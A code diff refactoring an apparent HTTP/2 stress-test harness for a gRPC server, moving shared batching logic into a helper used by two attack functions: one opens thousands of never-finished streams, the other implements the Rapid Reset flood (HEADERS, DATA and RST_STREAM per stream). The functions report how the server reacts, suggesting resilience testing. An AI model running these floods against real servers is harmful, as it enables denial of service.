@@ -13,6 +13,7 @@ import asyncio
 import struct
 import time
 from collections import Counter
+from collections.abc import Callable
 
 from bench.attacks_base import Closes, Outcome, Params, Target, close_all, open_tcp, watch_close, watch_until
 
@@ -276,18 +277,10 @@ def _why(peer: H2Peer, default: str, start: float) -> str:
 
 async def many_streams(target: Target, p: Params) -> Outcome:
     """``p.streams`` HEADERS on one connection, each opening a call that never sends a message."""
+    block = grpc_headers()
     peer = await H2Peer.open(target)
     try:
-        await peer.wait_settings()
-        block = grpc_headers()
-        sent, deadline = 0, time.monotonic() + p.seconds
-        while sent < p.streams and not peer.closed and time.monotonic() < deadline:
-            batch = range(sent, min(p.streams, sent + 1000))
-            peer.send(b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * i, block) for i in batch))
-            if not await peer.drain(deadline - time.monotonic()):
-                break
-            sent = batch.stop
-        await asyncio.sleep(p.hold)
+        sent = await _streams_in_batches(peer, p, lambda sid: frame(HEADERS, END_HEADERS, sid, block))
         limit = "none" if peer.max_streams is None else str(peer.max_streams)
         return Outcome({"opened": f"{sent:,}", "refused": f"{peer.resets['REFUSED_STREAM']:,}",
                         "max concurrent advertised": limit, "server": peer.reaction()})
@@ -307,23 +300,30 @@ async def rapid_reset(target: Target, p: Params) -> Outcome:
     request, _ = extproc_messages()
     call = b"".join(grpc_message(message.SerializeToString()) for message in request)  # type: ignore[attr-defined]
     cancel = struct.pack(">L", 8)
+    block = grpc_headers()
     peer = await H2Peer.open(target)
     try:
-        await peer.wait_settings()
-        block = grpc_headers()
-        sent, deadline = 0, time.monotonic() + p.seconds
-        while sent < p.streams and not peer.closed and time.monotonic() < deadline:
-            batch = range(sent, min(p.streams, sent + 1000))
-            peer.send(b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * i, block) + frame(DATA, 0, 1 + 2 * i, call)
-                               + frame(RST, 0, 1 + 2 * i, cancel) for i in batch))
-            if not await peer.drain(deadline - time.monotonic()):
-                break
-            sent = batch.stop
-        await asyncio.sleep(p.hold)
+        sent = await _streams_in_batches(peer, p, lambda sid: frame(HEADERS, END_HEADERS, sid, block)
+                                         + frame(DATA, 0, sid, call) + frame(RST, 0, sid, cancel))
         return Outcome({"calls sent and reset": f"{sent:,}", "answered (response HEADERS)": f"{peer.headers_in:,}",
                         "server": peer.reaction()})
     finally:
         peer.close()
+
+
+async def _streams_in_batches(peer: H2Peer, p: Params, frames: Callable[[int], bytes]) -> int:
+    """Once the server's SETTINGS came, ``frames(stream_id)`` for up to ``p.streams`` new streams, 1,000 a write,
+    while the socket takes them, for at most ``p.seconds``; then hold ``p.hold``. Returns the streams sent."""
+    await peer.wait_settings()
+    sent, deadline = 0, time.monotonic() + p.seconds
+    while sent < p.streams and not peer.closed and time.monotonic() < deadline:
+        batch = range(sent, min(p.streams, sent + 1000))
+        peer.send(b"".join(frames(1 + 2 * i) for i in batch))
+        if not await peer.drain(deadline - time.monotonic()):
+            break
+        sent = batch.stop
+    await asyncio.sleep(p.hold)
+    return sent
 
 
 def grpc_message(payload: bytes) -> bytes:
